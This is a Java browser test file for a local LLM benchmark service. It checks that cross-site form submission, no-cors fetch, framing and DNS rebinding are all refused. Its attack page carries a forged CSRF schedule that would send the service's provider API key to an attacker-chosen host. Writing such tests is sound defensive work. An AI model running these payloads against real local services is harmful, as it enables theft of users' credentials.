package io.unibench.web;

import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Browser;
import com.microsoft.playwright.BrowserType;
import com.microsoft.playwright.Frame;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.Playwright;
import com.sun.net.httpserver.HttpServer;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

import java.net.InetSocketAddress;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.util.List;

/**
 * The attacks of a page the user visits while the service runs on loopback without a token (the quick start), made
 * by real headless Chromium from a second loopback origin: a tiny "attacker" server on another 127.0.0.1 port whose
 * page auto-submits the new-schedule form into a hidden frame, {@code fetch()}es the schedule API with a body no
 * preflight guards ({@code text/plain}), and frames the service's home page. The schedule it tries to create would
 * send the service's provider key (api_key_env) to a host the attacker chose. And a DNS-rebinding name (Chromium
 * resolves {@code rebind.test} to 127.0.0.1) reaching the service. All are refused; nothing is stored.
 */
class CrossSiteBrowserTest extends WebFixtureTest {
    private static Playwright playwright;
    private static Browser browser;
    private static HttpServer attacker;

    @BeforeAll
    static void startAttackerAndBrowser() throws Exception {
        playwright = BrowserTestBase.playwright();
        browser = playwright.chromium().launch(new BrowserType.LaunchOptions()
                .setExecutablePath(BrowserTestBase.CHROMIUM).setHeadless(true)
                .setArgs(List.of("--no-sandbox", "--disable-gpu", "--disable-quic", "--no-first-run",
                        "--disable-background-networking", "--disable-component-update", "--disable-sync",
                        "--host-resolver-rules=MAP rebind.test 127.0.0.1")));
        Files.createDirectories(BrowserTestBase.SHOTS);
        attacker = HttpServer.create(new InetSocketAddress("127.0.0.1", 0), 0);
        attacker.createContext("/attack.html", ex -> {
            byte[] page = attackPage().getBytes(StandardCharsets.UTF_8);
            ex.getResponseHeaders().set("Content-Type", "text/html; charset=utf-8");
            ex.sendResponseHeaders(200, page.length);
            ex.getResponseBody().write(page);
            ex.close();
        });
        attacker.start();
    }

    @AfterAll
    static void stopAttackerAndBrowser() {
        if (attacker != null) attacker.stop(0);
        if (browser != null) browser.close();
        if (playwright != null) playwright.close();
    }

    /** A schedule whose rounds would send the service's key (TEST_KEY) to the attacker's own port. */
    private static String evilDocument(String name) {
        return """
                name: %s
                provider:
                  name: p
                  base_url: http://127.0.0.1:%d/v1
                  model: m
                  api_key_env: TEST_KEY
                concurrency: {levels: [1], requests_per_level: 1}
                scenarios:
                  - {name: qa, type: chat, prompt: hi}
                """.formatted(name, attacker.getAddress().getPort());
    }

    private static String attackPage() {
        String service = f.base();
        String fetchBody = "{\"name\":\"evil-fetch\",\"every\":\"1h\",\"document\":"
                + quote(evilDocument("evil-fetch")) + "}";
        return """
                <!doctype html><html><body>
                <form id="f" method="post" action="%1$s/schedules" target="sink">
                  <input name="name" value="evil-form"><input name="when" value="every"><input name="every" value="1h">
                  <input name="enabled" value="on"><textarea name="document">%2$s</textarea>
                </form>
                <iframe name="sink" id="sink"></iframe>
                <iframe id="framed"></iframe>
                <script>
                  window.done = {form: false, fetch: false, framed: false};
                  document.getElementById('sink').onload = () => { window.done.form = true; };
                  const framed = document.getElementById('framed');
                  framed.onload = () => { window.done.framed = true; };
                  framed.src = %3$s + '/';
                  fetch(%3$s + '/api/schedules', {method: 'POST', mode: 'no-cors',
                      headers: {'Content-Type': 'text/plain'}, body: %4$s})
                    .finally(() => { window.done.fetch = true; });
                  document.getElementById('f').submit();
                </script>
                </body></html>
                """.formatted(service, escape(evilDocument("evil-form")), quote(service), quote(fetchBody));
    }

    @Test
    void aPageOfAnotherOriginCanNeitherCreateASchedulePostingTheKeyNorFrameTheService() throws Exception {
        Page page = browser.newPage(new Browser.NewPageOptions().setViewportSize(1000, 700));
        page.navigate("http://127.0.0.1:" + attacker.getAddress().getPort() + "/attack.html");
        page.waitForFunction("window.done && window.done.form && window.done.fetch && window.done.framed");
        BrowserTestBase.shot(page, "cross-site-attack.png");

        String schedules = f.get("/api/schedules").body();
        assertThat(schedules).doesNotContain("evil-form").doesNotContain("evil-fetch");
        Frame framed = page.frames().stream().filter(fr -> "framed".equals(fr.name()) || fr.url().startsWith(f.base())
                || fr.url().startsWith("chrome-error:")).filter(fr -> fr != page.mainFrame()).findFirst().orElseThrow();
        String text = (String) framed.evaluate("() => document.body ? document.body.innerText : ''");
        assertThat(text).doesNotContain("Uni LLM Bench").doesNotContain(f.runIds.get(0));
        page.close();
    }

    @Test
    void aRebindingHostNameGets421AndTheLoopbackNamesWork() {
        Page page = browser.newPage();
        var rebound = page.navigate("http://rebind.test:" + f.server.port() + "/");
        assertThat(rebound.status()).isEqualTo(421);
        assertThat(page.content()).doesNotContain(f.runIds.get(0));
        for (String host : List.of("127.0.0.1", "localhost")) {
            var ok = page.navigate("http://" + host + ":" + f.server.port() + "/");
            assertThat(ok.status()).as(host).isEqualTo(200);
            assertThat(page.content()).as(host).contains(f.runIds.get(0));
        }
        page.close();
    }

    @Test
    void theServicesOwnPagesBreakNoRuleOfTheirContentSecurityPolicy() {
        String a = f.runIds.get(0);
        String b = f.runIds.get(1);
        for (String path : List.of("/", "/runs/" + a, "/compare?a=" + a + "&b=" + b, "/runs/new", "/schedules",
                "/schedules/new", "/login")) {
            Page page = browser.newPage(new Browser.NewPageOptions().setViewportSize(1400, 1000));
            List<String> violations = new java.util.ArrayList<>();
            page.onConsoleMessage(m -> {
                if (m.text().contains("Content Security Policy")) violations.add(m.text());
            });
            page.navigate(f.base() + path);
            page.waitForLoadState(com.microsoft.playwright.options.LoadState.NETWORKIDLE);
            if (path.equals("/runs/" + a)) {
                BrowserTestBase.shot(page, "csp-run.png");
                assertThat((Boolean) page.evaluate("() => document.querySelectorAll('canvas').length > 0")).isTrue();
            }
            assertThat(violations).as(path).isEmpty();
            page.close();
        }
    }

    private static String quote(String s) {
        StringBuilder sb = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            switch (c) {
                case '"' -> sb.append("\\\"");
                case '\\' -> sb.append("\\\\");
                case '\n' -> sb.append("\\n");
                case '<' -> sb.append("\\u003c");
                default -> sb.append(c);
            }
        }
        return sb.append('"').toString();
    }

    private static String escape(String s) {
        return s.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;").replace("\"", "&quot;");
    }
}
